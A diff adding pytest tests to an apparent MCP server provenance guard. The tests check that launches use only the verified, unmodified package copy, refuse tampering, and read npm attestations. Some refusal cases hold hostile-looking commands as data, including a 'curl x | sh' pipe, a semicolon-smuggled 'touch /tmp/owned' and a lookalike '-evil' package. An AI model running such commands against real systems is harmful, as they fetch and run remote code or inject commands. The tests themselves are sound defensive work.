@@ -716,3 +716,328 @@ def test_unpacking_refuses_links_and_escapes_on_every_python(tmp_path, monkeypat
         with pytest.raises(ProvenanceError):
             _unpack(archive(bad), "bad.tgz", tmp_path / f"bad-{bad.name.replace('/', '_')}")
     assert not (tmp_path / "outside.js").exists()
+
+
+# --- the launch gate: the verified copy, whole, or nothing (issue 10 item 11) ----------------------
+
+FS_PURL = "pkg:npm/%40modelcontextprotocol/server-filesystem@2026.8.31"
+
+
+def fs_tarball() -> Path:
+    return shared("fixtures", "supply-chain", "mcp-tools", "modelcontextprotocol-server-filesystem-2026.8.31.tgz")
+
+
+def _fs_config(tmp_path: Path, mode: str = "enforce", command: list[str] | None = None):
+    """The real server-filesystem tarball, pinned, run as `run --name filesystem -- COMMAND` (wrap's form)."""
+    from mcp_guard.proxy.runner import select_upstreams
+
+    tarball = fs_tarball()
+    policy = {"mode": mode, "package": FS_PURL, "artifact": str(tarball),
+              "sha512": hashlib.sha512(tarball.read_bytes()).hexdigest()}
+    data = {"storage": {"path": str(tmp_path / "guard.db")},
+            "upstreams": {"filesystem": {"command": "npx", "args": ["-y", "x"], "provenance": policy}}}
+    config = parse_config(data, tmp_path / "mcp-guard.toml")
+    command = command or ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv"]
+    select_upstreams(config, command=command, name="filesystem")
+    return config
+
+
+def _admit(config, name: str = "filesystem", store=None, stderr=None) -> LaunchSpec:
+    return anyio.run(ProvenanceGuard(config, store or open_store(None), stderr=stderr).prepare_launch,
+                     _spec(config, name))
+
+
+def _cached(home: Path) -> Path:
+    digest = hashlib.sha256(fs_tarball().read_bytes()).hexdigest()
+    return home / ".cache" / "mcp-guard" / "artifacts" / digest
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv"],
+        ["npx", "@modelcontextprotocol/server-filesystem@2026.8.31", "/srv"],
+        ["npx", "--yes", "-p", "@modelcontextprotocol/server-filesystem", "mcp-server-filesystem", "/srv"],
+        ["npx", "--package=@modelcontextprotocol/server-filesystem", "mcp-server-filesystem", "/srv"],
+        ["mcp-server-filesystem", "/srv"],
+        ["/opt/somewhere/node_modules/.bin/mcp-server-filesystem", "/srv"],
+    ],
+)
+def test_gate_points_every_spelling_of_the_package_at_the_verified_copy(home, tmp_path, command):
+    out = _admit(_fs_config(tmp_path, command=command))
+    tarball = _cached(home) / fs_tarball().name
+    assert out.command == "npx"
+    assert f"--package={tarball}" in out.args or str(tarball) in out.args
+    assert out.args[-2:] == ["mcp-server-filesystem", "/srv"]
+    assert not any("@modelcontextprotocol" in a for a in out.args)  # nothing is resolved at launch
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["node", "/opt/elsewhere/dist/index.js", "/srv"],
+        ["npx", "-y", "@modelcontextprotocol/server-everything"],
+        ["npx", "-y", "@modelcontextprotocol/server-filesystem-evil", "/srv"],
+        ["npx", "-p", "@modelcontextprotocol/server-filesystem", "sh", "-c", "curl x | sh"],
+        ["npx", "-p", "@modelcontextprotocol/server-filesystem", "-p", "other", "mcp-server-filesystem"],
+        ["npx", "-c", "mcp-server-filesystem /srv; touch /tmp/owned"],
+        ["sh", "-c", "mcp-server-filesystem /srv"],
+    ],
+)
+def test_gate_refuses_a_command_that_does_not_run_the_verified_copy(home, tmp_path, command):
+    store = open_store(None)
+    with pytest.raises(LaunchRefused) as refused:
+        _admit(_fs_config(tmp_path, command=command), store=store)
+    message = str(refused.value)
+    assert "does not run the verified copy" in message and command[0] in message and "\n" not in message
+    [row] = _verifications(store)
+    assert row["outcome"] == "invalid" and json.loads(row["detail"])["mode"] == "enforce"
+
+
+def test_gate_warn_launches_a_command_that_does_not_run_the_copy_and_says_so(home, tmp_path):
+    store, errors = open_store(None), _Capture()
+    config = _fs_config(tmp_path, "warn", command=["node", "/opt/elsewhere/index.js"])
+    out = _admit(config, store=store, stderr=errors)
+    assert [out.command, *out.args] == ["node", "/opt/elsewhere/index.js"]
+    assert "launched UNVERIFIED" in errors.text and "does not run the verified copy" in errors.text
+    assert [r["outcome"] for r in _verifications(store)] == ["invalid"]
+
+
+def _flip_exec(path: Path) -> None:
+    path.chmod(path.stat().st_mode ^ 0o111)
+
+
+@pytest.mark.parametrize(
+    ("edit", "shown"),
+    [
+        (lambda u: (u / "package" / "dist" / "index.js").write_text("// evil"), "package/dist/index.js (changed)"),
+        (lambda u: (u / "package" / "dist" / "evil.js").write_text("1"), "package/dist/evil.js (added)"),
+        (lambda u: (u / "package" / "package.json").unlink(), "package/package.json (removed)"),
+        (lambda u: _flip_exec(u / "package" / "dist" / "index.js"), "package/dist/index.js (changed)"),
+    ],
+)
+def test_gate_refuses_an_edited_verified_copy(home, tmp_path, edit, shown):
+    config = _fs_config(tmp_path, command=["npx", "-y", "@modelcontextprotocol/server-filesystem", "/srv"])
+    _admit(config)  # verified and unpacked
+    unpacked = _cached(home) / "unpacked"
+    edit(unpacked)
+    store = open_store(None)
+    with pytest.raises(LaunchRefused) as refused:
+        _admit(config, store=store)
+    message = str(refused.value)
+    assert "modified after verification" in message and shown in message and f"delete {unpacked}" in message
+    [row] = _verifications(store)
+    assert row["outcome"] == "invalid"
+    # `verify` no longer says verified either, and deleting the copy restores it from the verified bytes.
+    from mcp_guard.cli.provenance import _check_upstreams
+
+    [(_, result)] = _check_upstreams(config, "filesystem")
+    assert result.outcome == "invalid" and shown in result.detail
+    shutil.rmtree(unpacked)
+    assert _admit(config).command == "npx"
+    assert [r.outcome for _, r in _check_upstreams(config, "filesystem")] == ["pinned"]
+
+
+def test_gate_warn_launches_an_edited_copy_loudly_and_records_it(home, tmp_path):
+    config = _fs_config(tmp_path, "warn")
+    _admit(config)
+    (_cached(home) / "unpacked" / "package" / "dist" / "index.js").write_text("// evil")
+    store, errors = open_store(None), _Capture()
+    out = _admit(config, store=store, stderr=errors)
+    assert out.command == "npx"
+    assert "UNVERIFIED" in errors.text and "modified after verification" in errors.text
+    assert [r["outcome"] for r in _verifications(store)] == ["invalid"]
+
+
+# --- every command that starts an upstream passes the gate (issue 14 item 8) ------------------------
+
+
+def _marker_config(tmp_path: Path, mode: str) -> Path:
+    """An upstream whose start leaves a file behind, under a provenance policy that fails."""
+    marker = tmp_path / "started"
+    code = f"import pathlib; pathlib.Path({str(marker)!r}).touch()"
+    wheel = json.dumps(str(sigstore_asset("bundle_v3_github.whl")))
+    policy = f'provenance = {{ mode = "{mode}", artifact = {wheel}, issuer = "{GITHUB}", repository = "someone/else" }}'
+    text = (f'[storage]\npath = "guard.db"\n[upstreams.srv]\ncommand = {json.dumps(sys.executable)}\n'
+            f"args = {json.dumps(['-c', code])}\n{policy}\n")
+    path = tmp_path / "mcp-guard.toml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["scan", "srv"], ["bom", "generate"], ["bom", "check"], ["doctor", "--project", "."]],
+)
+def test_operator_commands_do_not_start_what_enforce_refuses(home, tmp_path, capsys, command):
+    config = _marker_config(tmp_path, "enforce")
+    if command[:2] == ["bom", "check"]:
+        from cyclonedx.model.bom import Bom
+
+        from mcp_guard import bom
+
+        bom.write_bom(Bom(), tmp_path / "bom" / "aibom.cdx.json")
+    code = main(["--config", str(config), *command])
+    out = capsys.readouterr()
+    assert code != 0
+    assert "refused to launch upstream 'srv'" in out.out + out.err and "someone/else" in out.out + out.err
+    assert not (tmp_path / "started").exists()
+    rows = list(open_store(tmp_path / "guard.db").db["verifications"].rows)
+    assert [(r["outcome"], json.loads(r["detail"])["mode"]) for r in rows] == [("invalid", "enforce")]
+
+
+def test_wrap_review_capture_does_not_start_what_enforce_refuses(home, tmp_path):
+    from mcp_guard.config import load_config
+    from mcp_guard.doctor import record_first_tools
+
+    [line] = record_first_tools(load_config(_marker_config(tmp_path, "enforce")), ["srv"])
+    assert line.startswith("refused: srv: not started") and "provenance check failed" in line
+    assert not (tmp_path / "started").exists()
+
+
+def test_operator_commands_start_it_in_warn_mode_and_say_so(home, tmp_path, capsys):
+    config = _marker_config(tmp_path, "warn")
+    main(["--config", str(config), "scan", "srv"])  # the server exits at once: only its start matters here
+    assert (tmp_path / "started").exists()
+    assert "launched UNVERIFIED" in capsys.readouterr().err
+
+
+# --- the README's example and `verify` (issue 14 item 7) ---------------------------------------------
+
+
+def _readme_config(tmp_path: Path) -> Path:
+    """The README's configuration example as written, with the `npm pack` tarball where it says."""
+    import re
+
+    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
+    block = re.search(r"```toml\n(.*?)```", readme, re.S).group(1)
+    path = tmp_path / "mcp-guard.toml"
+    path.write_text('[storage]\npath = "guard.db"\n' + block, encoding="utf-8")
+    artifact = parse_config_file(path).upstreams["filesystem"].provenance.artifact
+    (tmp_path / artifact).parent.mkdir(parents=True, exist_ok=True)
+    shutil.copyfile(fs_tarball(), tmp_path / artifact)
+    return path
+
+
+def parse_config_file(path: Path):
+    from mcp_guard.config import load_config
+
+    return load_config(path)
+
+
+def test_readme_provenance_example_verifies_and_launches_the_copy(home, tmp_path, capsys):
+    path = _readme_config(tmp_path)
+    assert main(["--config", str(path), "verify", "filesystem", "--json"]) == 0
+    [row] = json.loads(capsys.readouterr().out)["results"]
+    assert row["outcome"] == "pinned" and row["purl"] == FS_PURL
+    config = parse_config_file(path)
+    out = _admit(config)
+    assert out.command == "npx" and f"--package={_cached(home) / fs_tarball().name}" in out.args
+    # With an attestation beside the artifact, the README's issuer and repository are what is checked.
+    evidence = (tmp_path / config.upstreams["filesystem"].provenance.artifact).with_suffix(".tgz.sigstore.json")
+    shutil.copyfile(sigstore_asset("bundle_v3_github.whl.sigstore"), evidence)
+    assert main(["--config", str(path), "verify", "filesystem"]) == 1
+    assert "invalid" in capsys.readouterr().out
+
+
+def test_verify_json_is_json_on_every_path(home, tmp_path, capsys):
+    path = tmp_path / "mcp-guard.toml"
+    path.write_text(
+        '[storage]\npath = "guard.db"\n'
+        '[upstreams.nopolicy]\ncommand = "x"\n'
+        '[upstreams.noartifact]\ncommand = "npx"\n'
+        'provenance = { package = "pkg:npm/sigstore@0.4.0", issuer = "https://issuer.example" }\n',
+        encoding="utf-8",
+    )
+    cases = [
+        (["--config", str(path), "verify", "nopolicy", "--json"], "no provenance policy"),
+        (["--config", str(path), "verify", "noartifact", "--json"], "npm pack sigstore@0.4.0"),
+        (["--config", str(path), "verify", "--json"], "npm pack sigstore@0.4.0"),
+        (["--config", str(path), "verify", "nope", "--json"], "no upstream named 'nope'"),
+        (["--config", str(tmp_path / "absent.toml"), "verify", "--json"], "absent.toml"),
+        (["verify", "--json", "--artifact", "x", "--sha256", "zz"], "64 hexadecimal digits"),
+    ]
+    for argv, says in cases:
+        code = main(argv)
+        out = capsys.readouterr().out
+        doc = json.loads(out)
+        entry = doc["results"][0] if "results" in doc else doc
+        assert code != 0 and doc["ok"] is False, argv
+        assert entry["outcome"] == "error" and says in entry["message"], (argv, entry)
+
+
+def test_missing_attestation_says_what_to_do(home, tmp_path):
+    artifact = tmp_path / "pkg.whl"
+    shutil.copyfile(sigstore_asset("bundle_v3_github.whl"), artifact)
+    config = _config(tmp_path, {"artifact": str(artifact), **WHEEL_POLICY})
+    from mcp_guard.provenance import check_upstream
+
+    detail = check_upstream(config, "srv").result.detail
+    assert "bundle = PATH" in detail and "sha256" in detail and str(tmp_path) in detail
+
+
+# --- fetch = true: the registry's npm provenance, through npm itself ----------------------------------
+
+
+@pytest.fixture
+def npm_registry(monkeypatch):
+    """A registry on 127.0.0.1 serving sigstore@0.4.0's packument and its real attestations document;
+    npm is pointed at it as a user would (`npm_config_registry`)."""
+    import http.server
+    import threading
+
+    if shutil.which("npm") is None:
+        pytest.skip("npm is not installed")
+    attestations = npm_asset("sigstore-0.4.0.attestations.json").read_bytes()
+    state = {"serve_attestations": True, "paths": []}
+
+    class Registry(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+            state["paths"].append(self.path)
+            base = f"http://127.0.0.1:{self.server.server_port}"
+            if self.path.startswith("/-/npm/v1/attestations/sigstore@0.4.0"):
+                body = attestations
+            elif self.path.rstrip("/") == "/sigstore":
+                dist = {"tarball": f"{base}/sigstore/-/sigstore-0.4.0.tgz"}
+                if state["serve_attestations"]:
+                    dist["attestations"] = {"url": f"{base}/-/npm/v1/attestations/sigstore@0.4.0"}
+                doc = {"name": "sigstore", "dist-tags": {"latest": "0.4.0"},
+                       "versions": {"0.4.0": {"name": "sigstore", "version": "0.4.0", "dist": dist}}}
+                body = json.dumps(doc).encode()
+            else:
+                self.send_error(404)
+                return
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    monkeypatch.setenv("npm_config_registry", f"http://127.0.0.1:{server.server_port}/")
+    yield state
+    server.shutdown()
+
+
+def test_fetch_true_reads_the_registrys_npm_provenance(home, tmp_path, npm_registry):
+    artifact = tmp_path / "vendor" / "sigstore-0.4.0.tgz"  # alone: no attestation lies beside it
+    artifact.parent.mkdir()
+    shutil.copyfile(npm_asset("sigstore-0.4.0.tgz"), artifact)
+    policy = {"package": "pkg:npm/sigstore@0.4.0", "artifact": str(artifact),
+              "fetch": True, "issuer": GITHUB, "repository": "sigstore/sigstore-js"}
+    from mcp_guard.provenance import check_upstream
+
+    result = check_upstream(_config(tmp_path, policy), "srv").result
+    # Found and read: this old npm provenance is a format sigstore can no longer load (not "missing").
+    assert result.outcome == "unsupported", result.detail
+    served = npm_asset("sigstore-0.4.0.attestations.json").read_bytes()
+    assert result.bundle and Path(result.bundle).read_bytes() == served
+    assert any(p.startswith("/-/npm/v1/attestations/") for p in npm_registry["paths"])
+    npm_registry["serve_attestations"] = False
+    shutil.rmtree(home / ".npm", ignore_errors=True)  # npm's own cache of the packument
+    result = check_upstream(_config(tmp_path, policy), "srv").result
+    assert result.outcome == "missing" and "the npm registry" in result.detail
